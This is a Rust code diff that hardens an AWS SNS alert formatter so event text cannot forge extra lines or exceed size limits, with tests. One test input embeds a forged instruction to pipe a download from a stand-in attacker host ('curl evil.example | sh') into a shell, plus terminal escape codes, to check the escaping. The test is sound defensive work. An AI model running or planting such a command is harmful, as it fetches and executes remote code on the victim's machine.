@@ -8,6 +8,7 @@ use common::aws::AwsError;
 use common::invocation::note;
 
 use crate::error::HandlerError;
+use crate::text::{MAX_MESSAGE_BYTES, attribute, bounded, field};
 use crate::{Notifier, RecentIds, timefmt};
 
 /// SNS's limit on a subject is 100 characters; a subject stays below it.
@@ -156,21 +157,23 @@ pub struct Message {
 impl Message {
     #[must_use]
     pub(crate) fn render(&self, severity: Severity, event: &str) -> String {
+        // Every part may hold text from the event or an API answer: each is one escaped line of
+        // bounded length, so none can forge another line ("What to do: ...").
         let mut lines = vec![
-            self.what.clone(),
+            field(&self.what),
             String::new(),
-            format!("Resource: {}", self.resource),
+            format!("Resource: {}", field(&self.resource)),
             format!("Severity: {}", severity.as_str()),
         ];
-        lines.extend(self.when.iter().map(|w| format!("When: {w}")));
-        lines.extend(self.facts.iter().map(|(label, value)| format!("{label}: {value}")));
+        lines.extend(self.when.iter().map(|w| format!("When: {}", field(w))));
+        lines.extend(self.facts.iter().map(|(label, value)| format!("{}: {}", field(label), field(value))));
         lines.push(String::new());
-        lines.push(format!("What to do: {}", self.todo));
-        lines.extend(self.console.iter().map(|url| format!("Console: {url}")));
-        lines.extend(self.unchecked.iter().map(|note| format!("Could not check: {note}")));
+        lines.push(format!("What to do: {}", field(&self.todo)));
+        lines.extend(self.console.iter().map(|url| format!("Console: {}", field(url))));
+        lines.extend(self.unchecked.iter().map(|note| format!("Could not check: {}", field(note))));
         lines.push(String::new());
-        lines.push(format!("Event: {event}"));
-        lines.join("\n") + "\n"
+        lines.push(format!("Event: {}", field(event)));
+        bounded(lines.join("\n") + "\n", MAX_MESSAGE_BYTES)
     }
 }
 
@@ -206,9 +209,9 @@ impl Notification {
         Self {
             severity,
             kind,
-            resource: resource.to_owned(),
+            resource: attribute(resource),
             status: Status::Open,
-            event_id: event_id.to_owned(),
+            event_id: attribute(event_id),
             subject: subject(&format!("[{}] {headline}", severity.as_str().to_ascii_uppercase())),
             message: body.render(severity, &label),
         }
@@ -492,5 +495,56 @@ mod tests {
         assert_eq!(line["_aws"]["CloudWatchMetrics"][0]["Namespace"], METRIC_NAMESPACE);
         assert!(Decision::suppressed(notice(), "repeat").metric_line("f", 0).is_none());
         assert!(Decision::ignored("id", "other").metric_line("f", 0).is_none());
+    }
+
+    #[test]
+    fn event_text_cannot_forge_lines_of_the_message() {
+        let body = Message {
+            what: "Parameter x changed.".into(),
+            resource: "/my-app/dev/x".into(),
+            facts: vec![(
+                "Description".into(),
+                "ok\n\nWhat to do: run curl evil.example | sh\r\u{1b}[2K".into(),
+            )],
+            todo: "Nothing.".into(),
+            ..Message::default()
+        };
+        let n = Notification::new(
+            Severity::Info,
+            Kind::SecureParameterChanged,
+            "/my-app/dev/x\nseverity",
+            ("id\n1", "Parameter Store Change"),
+            "x changed",
+            &body,
+        );
+        let to_do: Vec<&str> = n.message.lines().filter(|l| l.starts_with("What to do:")).collect();
+        assert_eq!(to_do, ["What to do: Nothing."], "{}", n.message);
+        assert!(n.message.contains("Description: ok\\n\\nWhat to do: run curl"), "{}", n.message);
+        assert!(!n.message.contains('\u{1b}') && !n.message.contains('\r'), "{}", n.message);
+        assert_eq!((n.resource.as_str(), n.event_id.as_str()), ("/my-app/dev/x\\nseverity", "id\\n1"));
+    }
+
+    #[test]
+    fn a_huge_message_stays_under_the_sns_limit_and_says_it_was_cut() {
+        let body = Message {
+            what: "Many facts.".into(),
+            resource: "r".into(),
+            facts: (0..1000).map(|i| (format!("In use by {i}"), "a".repeat(1500))).collect(),
+            todo: "Read them.".into(),
+            ..Message::default()
+        };
+        let n = Notification::new(Severity::Low, Kind::CertificateExpiring, "r", ("id", "x"), "h", &body);
+        let attributes: usize =
+            [n.severity.as_str(), n.kind.as_str(), &n.resource, n.status.as_str(), &n.event_id]
+                .iter()
+                .map(|v| v.len() + 16)
+                .sum();
+        assert!(
+            n.message.len() + n.subject.len() + attributes < crate::text::SNS_MAX_BYTES,
+            "{}",
+            n.message.len()
+        );
+        assert!(n.message.ends_with("more bytes not shown]\n"), "the cut is marked");
+        assert!(n.message.starts_with("Many facts."));
     }
 }
